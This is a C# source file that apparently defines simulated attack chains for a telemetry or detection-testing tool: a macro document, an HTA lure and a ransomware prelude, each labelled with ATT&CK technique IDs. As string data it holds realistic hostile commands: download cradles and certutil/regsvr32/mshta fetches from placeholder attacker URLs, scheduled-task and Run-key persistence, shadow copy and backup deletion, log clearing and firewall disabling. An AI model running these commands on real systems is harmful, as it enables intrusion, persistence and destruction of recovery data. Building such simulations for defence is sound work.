using Changeling.Simulation.Habits;
using static Changeling.Simulation.Fleet.HostRole;

namespace Changeling.Simulation.Attacks;

/// <summary>Chains that begin with a person who opens something.</summary>
internal static class UserChains
{
    public static readonly AttackChain Macro = new(
        "macro-document", [OfficeWorkstation, DeveloperWorkstation], new ChainPart("explorer", new Scene(
            "winword.exe",
            @"<path> /n ""C:\Users\<user>\Downloads\<lure>.docm"" /o """"")
        {
            Technique = "T1204.002",
            Then =
        [
            new(
                "cmd.exe",
                @"cmd.exe /c powershell -nop -w hidden -enc <=encoded:cradle>",
                @"""C:\Windows\System32\cmd.exe"" /c start /b powershell -nop -w hidden -enc <=encoded:cradle>")
            {
                Technique = "T1059.003",
                After = 22,
                Then =
                [
                    new("powershell.exe", "powershell  -nop -w hidden -enc <=encoded:cradle>")
                    {
                        Technique = "T1059.001",
                        Then =
                        [
                            new(
                                "whoami.exe",
                                "\"C:\\Windows\\system32\\whoami.exe\" /all",
                                "\"C:\\Windows\\system32\\whoami.exe\" /priv") { Technique = "T1033", After = 9 },
                            new(
                                "certutil.exe",
                                @"""C:\Windows\system32\certutil.exe"" -urlcache -split -f <=bad-url>/<bad-file>.txt " +
                                    @"C:\Users\Public\<=payload>.txt",
                                @"""C:\Windows\system32\certutil.exe"" -f -urlcache <=bad-url>/<bad-file>.b64 " +
                                    @"C:\Users\<user>\AppData\Local\Temp\<=payload>.b64") { Technique = "T1105", After = 30 },
                            new(
                                "certutil.exe",
                                @"""C:\Windows\system32\certutil.exe"" -decode C:\Users\Public\<=payload>.txt " +
                                    @"C:\Users\Public\<=payload>.dll") { Technique = "T1140", After = 12 },
                            new(
                                "regsvr32.exe",
                                @"""C:\Windows\system32\regsvr32.exe"" /s /n /u /i:<=bad-url>/<bad-file>.sct scrobj.dll",
                                @"regsvr32  /u /s /i:<=bad-url>/<bad-file>.sct scrobj.dll") { Technique = "T1218.010", After = 25 },
                            new(
                                "schtasks.exe",
                                @"""C:\Windows\system32\schtasks.exe"" /create /f /sc minute /mo <num:10-60> /tn ""<task>"" /tr " +
                                    @"""regsvr32 /s C:\Users\Public\<=payload>.dll""",
                                @"schtasks  /create /sc onlogon /tn ""<task>"" /tr ""rundll32 " +
                                    @"C:\Users\Public\<=payload>.dll,Start"" /f") { Technique = "T1053.005", After = 40 },
                        ],
                    },
                ],
            },
        ],
        })
        {
            After = 1,
        })
    {
        NeedsPerson = true,
    };

    public static readonly AttackChain Lure = new(
        "html-lure", [OfficeWorkstation, DeveloperWorkstation, AdminWorkstation], new ChainPart("explorer", new Scene(
            "mshta.exe",
            @"""C:\Windows\System32\mshta.exe"" <=bad-url>/<bad-file>.hta",
            @"""C:\Windows\System32\mshta.exe"" ""E:\<lure>.hta"" ",
            @"""C:\Windows\System32\mshta.exe"" vbscript:Close(Execute(""GetObject(""""script:<=bad-url>/<bad-file>.sct"""")""))")
        {
            Technique = "T1218.005",
            Then =
        [
            new(
                "powershell.exe",
                @"""C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"" -w hidden -nop -ep bypass -c ""IEX(New-Object " +
                    @"Net.WebClient).DownloadString('<=bad-url>/<bad-file>.ps1')""",
                @"""C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"" -NoP -NonI -W Hidden -Enc <encoded:cradle>")
            {
                Technique = "T1059.001",
                After = 4,
                Then =
                [
                    new(
                        "csc.exe",
                        @"""C:\Windows\Microsoft.NET\Framework64\v4.0.30319\csc.exe"" /noconfig /fullpaths " +
                            @"@""C:\Users\<user>\AppData\Local\Temp\<hex:8>.cmdline""") { Technique = "T1027.004", After = 8, Odds = 0.7 },
                    new(
                        "rundll32.exe",
                        @"""C:\Windows\system32\rundll32.exe"" C:\Users\<user>\AppData\Local\Temp\<=payload>.dll,DllRegisterServer",
                        @"rundll32.exe javascript:""\..\mshtml,RunHTMLApplication " +
                            @""";document.write();GetObject(""script:<=bad-url>/<bad-file>.sct"")")
                    {
                        Technique = "T1218.011",
                        After = 20,
                        Then =
                        [
                            new("nltest.exe", "nltest  /domain_trusts /all_trusts") { Technique = "T1482", After = 60 },
                            new("net.exe", "net  group \"Domain Admins\" /domain")
                            {
                                Technique = "T1069.002",
                                After = 8,
                                Then =
                                [
                                    new(
                                        "net1.exe",
                                        @"C:\Windows\system32\net1  group ""Domain Admins"" /domain")
                                    { Technique = "T1069.002", After = 0.03 },
                                ],
                            },
                            new("systeminfo.exe", "systeminfo") { Technique = "T1082", After = 7 },
                        ],
                    },
                    new(
                        "reg.exe",
                        @"""C:\Windows\system32\reg.exe"" add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v <=payload> /t " +
                            @"REG_SZ /d ""rundll32 C:\Users\<user>\AppData\Local\Temp\<=payload>.dll," +
                                @"DllRegisterServer"" /f") { Technique = "T1547.001", After = 50 },
                ],
            },
        ],
        })
        {
            After = 1,
        })
    {
        NeedsPerson = true,
    };

    public static readonly AttackChain Ransom = new(
        "ransomware-prelude", [OfficeWorkstation, DeveloperWorkstation, AdminWorkstation], new ChainPart("explorer", new Scene(
            "dropper",
            "<path>",
            "<path> -k <hex:16>")
        {
            As = "elevated",
            Technique = "T1204.002",
            Then =
        [
            new(
                "cmd.exe",
                @"cmd.exe /c net stop ""SQLWriter"" /y & net stop ""HBAgent"" /y",
                @"C:\Windows\system32\cmd.exe /c taskkill /f /im outlook.exe & net stop HBAgent /y")
            {
                Technique = "T1489",
                After = 6,
                Then =
                [
                    new("net.exe", "net  stop \"HBAgent\" /y")
                    {
                        Technique = "T1489",
                        Then = [new("net1.exe", @"C:\Windows\system32\net1  stop ""HBAgent"" /y") { Technique = "T1489", After = 0.03 }],
                    },
                ],
            },
            new(
                "vssadmin.exe",
                "vssadmin.exe delete shadows /all /quiet",
                "vssadmin  Delete Shadows /All /Quiet",
                "vssadmin.exe resize shadowstorage /for=c: /on=c: /maxsize=401MB") { Technique = "T1490", After = 5 },
            new(
                "wmic.exe",
                "wmic.exe shadowcopy delete /nointeractive",
                "wmic  shadowcopy delete") { Technique = "T1490", After = 4, Odds = 0.8 },
            new(
                "bcdedit.exe",
                "bcdedit.exe /set {default} recoveryenabled no",
                "bcdedit  /set {default} bootstatuspolicy ignoreallfailures") { Technique = "T1490", After = 3 },
            new(
                "wbadmin.exe",
                "wbadmin  delete catalog -quiet",
                "wbadmin.exe delete systemstatebackup -keepVersions:0 -quiet") { Technique = "T1490", After = 3 },
            new("wevtutil.exe", "wevtutil.exe cl Security", "wevtutil  cl System") { Technique = "T1070.001", After = 4 },
            new("netsh.exe", "netsh  advfirewall set allprofiles state off") { Technique = "T1562.004", After = 4, Odds = 0.6 },
        ],
        })
        {
            After = 1,
        })
    {
        NeedsPerson = true,
    };
}
